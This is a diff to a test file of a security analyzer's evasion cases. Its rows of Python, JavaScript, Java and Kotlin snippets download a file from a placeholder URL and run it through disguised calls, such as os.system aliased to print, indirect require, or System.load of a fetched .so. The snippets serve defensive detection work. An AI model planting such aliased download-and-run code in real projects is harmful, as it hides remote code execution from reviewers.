@@ -55,36 +55,36 @@ const IMPORT_ALIAS_IN_A_LIST: FindingRow[] = closed([
 
 /**
  * Open (High where a secret or a download's run reaches a PR), left for room: each needs a reading of its own, more bytes
- * than the ~100 left in the analyze bundle.
+ * than the ~100 left in the analyze bundle. Rows marked closed are fixed in session 66 (`attack-66-safety.test.ts`).
  */
 const OPEN_ALIASES: FindingRow[] = [
   // Other binding forms than `name = …` and `import … as name`.
-  ['tests/t.py', 'p = urlretrieve(u)[0]\nprint, x = os.system, 1\nprint(p)'],
-  ['tests/t.py', "p = urlretrieve(u)[0]\nglobals()['print'] = os.system\nprint(p)"],
-  ['tests/t.py', "p = urlretrieve(u)[0]\nsetattr(builtins, 'print', os.system)\nprint(p)"],
-  ['tests/t.py', 'p = urlretrieve(u)[0]\nprint: Callable = os.system\nprint(p)'],
-  ['tests/t.py', 'p = urlretrieve(u)[0]\n(print := os.system)\nprint(p)'],
-  ['tests/t.py', 'p = urlretrieve(u)[0]\ndef print(c): return os.system(c)\nprint(p)'],
-  ['tests/t.py', "p = urlretrieve(u)[0]\nd = {'r': os.system}\nd['r'](p)"],
-  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst [r] = [require];\nr('/tmp/m.js');"],
-  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst o = { r: require };\no.r('/tmp/m.js');"],
-  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nmodule.constructor._load('/tmp/m.js');"],
+  ['tests/t.py', 'p = urlretrieve(u)[0]\nprint, x = os.system, 1\nprint(p)', 'closed'],
+  ['tests/t.py', "p = urlretrieve(u)[0]\nglobals()['print'] = os.system\nprint(p)", 'closed'],
+  ['tests/t.py', "p = urlretrieve(u)[0]\nsetattr(builtins, 'print', os.system)\nprint(p)", 'closed'],
+  ['tests/t.py', 'p = urlretrieve(u)[0]\nprint: Callable = os.system\nprint(p)', 'closed'],
+  ['tests/t.py', 'p = urlretrieve(u)[0]\n(print := os.system)\nprint(p)', 'closed'],
+  ['tests/t.py', 'p = urlretrieve(u)[0]\ndef print(c): return os.system(c)\nprint(p)', 'closed'],
+  ['tests/t.py', "p = urlretrieve(u)[0]\nd = {'r': os.system}\nd['r'](p)", 'closed'],
+  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst [r] = [require];\nr('/tmp/m.js');", 'closed'],
+  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst o = { r: require };\no.r('/tmp/m.js');", 'closed'],
+  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nmodule.constructor._load('/tmp/m.js');", 'closed'],
 ];
 const OPEN_DOWNLOAD_THEN_LOAD: FindingRow[] = [
   // A named download run by a process call: the marked name is matched only by code that loads a file.
-  ['tests/t.py', "p = download_file(u)\nsubprocess.run(['sh', p])"],
+  ['tests/t.py', "p = download_file(u)\nsubprocess.run(['sh', p])", 'closed'],
   ['tests/x.test.js', 'const { path: p } = await download(u);\nrequire(p);'],
   ['tests/x.test.js', 'const p = await download(u);\nconst q = p;\nrequire(q);'],
   ['tests/x.test.js', 'const p = await download(u);\nrequire(`${p}`);'],
   ['tests/x.test.js', 'const p = await fetchToFile(u);\nrequire(p);'],
   // Java: the stream opened in its own statement, other writers, other path forms, other loaders; Kotlin.
-  ['src/test/java/T.java', `HttpResponse<byte[]> r = client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofByteArray());\nFiles.write(Paths.get("/tmp/b.so"), r.body());\nSystem.load("/tmp/b.so");`],
-  ['src/test/java/T.java', `client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofFile(Paths.get("/tmp/b.so")));\nSystem.load("/tmp/b.so");`],
-  ['src/test/java/T.java', `FileUtils.copyURLToFile(new URL("${BOOT}"), new File("/tmp/b.so"));\nSystem.load("/tmp/b.so");`],
+  ['src/test/java/T.java', `HttpResponse<byte[]> r = client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofByteArray());\nFiles.write(Paths.get("/tmp/b.so"), r.body());\nSystem.load("/tmp/b.so");`, 'closed'],
+  ['src/test/java/T.java', `client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofFile(Paths.get("/tmp/b.so")));\nSystem.load("/tmp/b.so");`, 'closed'],
+  ['src/test/java/T.java', `FileUtils.copyURLToFile(new URL("${BOOT}"), new File("/tmp/b.so"));\nSystem.load("/tmp/b.so");`, 'closed'],
   ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), new File("/tmp/b.so").toPath());\nSystem.load("/tmp/b.so");`],
   ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), Path.of("/tmp", "b.so"));\nSystem.load("/tmp/b.so");`],
-  ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), Paths.get("/tmp/b.so"));\nRuntime.getRuntime().load("/tmp/b.so");`],
-  ['src/test/kotlin/T.kt', `File("/tmp/b.so").writeBytes(URL("${BOOT}").readBytes())\nSystem.load("/tmp/b.so")`],
+  ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), Paths.get("/tmp/b.so"));\nRuntime.getRuntime().load("/tmp/b.so");`, 'closed'],
+  ['src/test/kotlin/T.kt', `File("/tmp/b.so").writeBytes(URL("${BOOT}").readBytes())\nSystem.load("/tmp/b.so")`, 'closed'],
 ];
 const OPEN_SECRETS: FindingRow[] = [
   // A job token in the path of an options object, after a URL the test is given, or set on a URL object.
